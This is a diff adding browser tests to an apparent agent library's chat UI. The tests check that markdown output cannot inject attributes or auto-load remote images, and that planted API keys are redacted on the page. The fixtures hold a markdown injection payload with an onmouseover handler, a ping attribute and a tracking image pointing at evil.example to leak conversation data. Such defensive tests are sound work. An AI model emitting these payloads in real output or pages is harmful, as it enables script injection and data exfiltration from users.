@@ -11,7 +11,7 @@ import pytest
 
 import llmkit
 from llmkit import Agent, tool
-from llmkit.testing import FakeProviderServer, tool_call
+from llmkit.testing import FakeProviderServer, ScriptedModel, tool_call
 
 pytestmark = pytest.mark.browser
 
@@ -131,3 +131,71 @@ def test_no_byte_the_ui_serves_holds_the_api_key(ui: Any, tmp_path: Path) -> Non
         assert all(r.headers["authorization"] == f"Bearer {PLANTED}" for r in fake.requests)
     leaks = [text[:200] for text in seen if PLANTED in text or "planted0123456789" in text]
     assert leaks == []
+
+
+NESTED = (
+    "[a](https://x.example/![i onmouseover=window.__xss=9 id=injected data-pwn=1 "
+    "ping=https://evil.example/p tabindex=0](https://img.example/p.png))\n\n"
+    "![track](https://evil.example/leak?d=conversation)"
+)
+
+
+def test_an_image_inside_a_link_address_adds_no_attribute_and_remote_images_wait_for_a_click(
+    ui: Any,
+) -> None:
+    with ui.served(ui.echo_agent(NESTED)) as server:
+        ui.open(server.url)
+        ui.send("hi")
+        ui.run_status("complete")
+        driver = ui.driver
+        assert driver.find_elements("css selector", "#injected, [data-pwn], [ping]") == []
+        for link in driver.find_elements("css selector", ".message.assistant a"):
+            names = driver.execute_script(
+                "return Array.from(arguments[0].attributes).map(a => a.name).sort()", link
+            )
+            assert names == ["href", "rel", "target"]
+        assert driver.find_elements("css selector", ".message.assistant img") == []
+        buttons = driver.find_elements("css selector", ".message.assistant button.remote-image")
+        assert [b.text for b in buttons][-1] == "Show image “track” from evil.example"
+        buttons[-1].click()
+        (image,) = driver.find_elements("css selector", ".message.assistant img")
+        assert image.get_attribute("src") == "https://evil.example/leak?d=conversation"
+        assert image.get_attribute("alt") == "track"
+
+
+KEY = "sk-proj-PLANTEDenv0123456789abcdef"
+
+
+@tool
+def read_config(name: str) -> str:
+    """A config value."""
+    import os
+
+    return f"value of {name}: {os.environ[name]} ({KEY})"
+
+
+@tool(errors="raise")
+def call_api(q: str) -> str:
+    """Calls an API."""
+    import os
+
+    raise RuntimeError(f"401 from https://api.example/v1?key={os.environ['MYAPP_API_KEY']}")
+
+
+def test_a_key_in_a_tool_result_or_an_exception_message_is_redacted_on_the_page(
+    ui: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("MYAPP_API_KEY", "env-value-PLANTED-0042")
+    script = [tool_call("read_config", name="MYAPP_API_KEY"), tool_call("call_api", q="x")]
+    agent = Agent(ScriptedModel(script), name="cfg", tools=[read_config, call_api])
+    with ui.served(agent) as server:
+        ui.open(server.url)
+        ui.send("show config")
+        ui.run_status("failed")
+        for summary in ui.driver.find_elements("css selector", ".timeline summary"):
+            summary.click()
+        ui.wait_for(lambda d: ui.text(".entry.error"), "the error entry")
+        source = ui.driver.page_source
+        assert "[redacted]" in ui.text(".entry.tool .result")
+        assert "[redacted]" in ui.text(".entry.error")
+        assert KEY not in source and "env-value-PLANTED-0042" not in source
